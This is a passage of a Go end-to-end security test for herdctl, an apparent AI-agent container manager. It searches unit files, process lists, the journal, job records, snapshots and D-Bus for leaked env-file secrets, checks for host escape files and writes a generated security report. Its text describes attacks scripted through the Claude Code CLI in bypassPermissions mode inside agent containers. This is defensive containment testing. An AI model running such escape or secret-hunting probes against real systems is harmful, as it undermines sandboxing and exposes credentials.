	if !strings.Contains(string(env), secrets[0]) {
		t.Fatal("env file changed under the test")
	}
	places := map[string]string{
		"unit files":  "cat /run/systemd/system/herdctl-* /run/systemd/transient/herdctl-* 2>/dev/null",
		"ps":          "ps -eo user,pid,args",
		"the journal": "journalctl --namespace='*' --no-pager -o json",
		"job records": "cat /var/lib/herdctl/jobs/*.json",
		"snapshots":   "cat /run/herdctl/agents/* /var/lib/herdctl/lastgood/* 2>/dev/null",
		"D-Bus":       "busctl --system call dev.herdctl.Manager1 /dev/herdctl/Manager1 dev.herdctl.Manager1 ListJobs a{sv} 0",
	}
	var hits []string
	for where, cmd := range places {
		out, _ := m.Try("sh", "-c", cmd)
		for _, sec := range secrets {
			if n := strings.Count(out, sec); n > 0 {
				hits = append(hits, fmt.Sprintf("%d in %s", n, where))
			}
		}
	}
	record("find the env file's secrets in unit files, ps, the journal, job records, the daemon's snapshots of the agents or over D-Bus (from outside)", "0 hits",
		fmt.Sprintf("%d hits %s", len(hits), strings.Join(hits, ", ")), len(hits) == 0)

	// The host is unharmed.
	if out, _ := m.Try("sh", "-c", "ls -d /escape-test /etc/escape-test /usr/escape-test 2>/dev/null"); strings.TrimSpace(out) != "" {
		t.Errorf("files written on the host: %s", out)
	}
	writeSecurityDoc(t, "Attacks from inside the container", `Each attack is made by the real Claude Code CLI, in `+"`bypassPermissions`"+` mode, as a Bash tool
call scripted by a stand-in API, inside a herdctl agent container (host image, network `+"`none`"+`, uid 1000,
default limits). The egress rows are made by an agent with network `+"`egress`"+` whose fleet allows it one
name and port, allowed.test:47998 (a service on the machine's loopback, with 127.0.0.0/8 in its
`+"`egress_private`"+`), which it does reach.`, rows)
}

func orNone(s string) string {
	if s == "" {
		return "no verdict"
	}
	return s
}

// jsonInto decodes a command's JSON output into v.
func jsonInto(out string, v any) bool { return json.Unmarshal([]byte(out), v) == nil }

// securityDoc is docs/security.md: a section per attack suite, each
// between markers and rewritten by its own test.
const securityDoc = "../../docs/security.md"

const securityHead = `# herdctl security: the attack suites

Generated by the attack suites of internal/e2e on every ` + "`make test`" + `; do not edit.
Each suite runs against herdctl.service installed in a systemd-nspawn machine
(real systemd, journald and containerd). Observed is what the attack printed or
what the test saw from outside.
`

// writeSecurityDoc writes section (its title, an introduction and the
// rows) into docs/security.md, replacing the section of the same title.
func writeSecurityDoc(t *testing.T, title, intro string, rows []row) {
	var b strings.Builder
	begin, end := "<!-- section: "+title+" -->\n", "<!-- end: "+title+" -->\n"
	b.WriteString(begin)
	fmt.Fprintf(&b, "## %s\n\n%s\n\n", title, intro)
	blocked := 0
	for _, r := range rows {
		if r.verdict == "blocked" {
			blocked++
		}
	}
	fmt.Fprintf(&b, "%d attacks, %d blocked.\n\n", len(rows), blocked)
	b.WriteString("| # | attack | expected | observed | verdict |\n| --- | --- | --- | --- | --- |\n")
	esc := strings.NewReplacer("|", `\|`, "\n", " ")
	for i, r := range rows {
		fmt.Fprintf(&b, "| %d | %s | %s | %s | %s |\n", i+1, esc.Replace(r.what), esc.Replace(r.expected), "`"+strings.ReplaceAll(esc.Replace(r.observed), "`", "'")+"`", r.verdict)
	}
	b.WriteString(end)
	old, _ := os.ReadFile(securityDoc)
	doc := string(old)
	if !strings.HasPrefix(doc, "# herdctl security: the attack suites") {
		doc = securityHead
	}
	if i := strings.Index(doc, begin); i >= 0 {
		if j := strings.Index(doc[i:], end); j >= 0 {
			doc = doc[:i] + b.String() + doc[i+j+len(end):]
		}
	} else {
		doc += "\n" + b.String()
	}
	if err := os.WriteFile(securityDoc, []byte(doc), 0o644); err != nil {
		t.Fatal(err)
	}
}

func firstLine(s string) string {
	line, _, _ := strings.Cut(s, "\n")
	return line
}
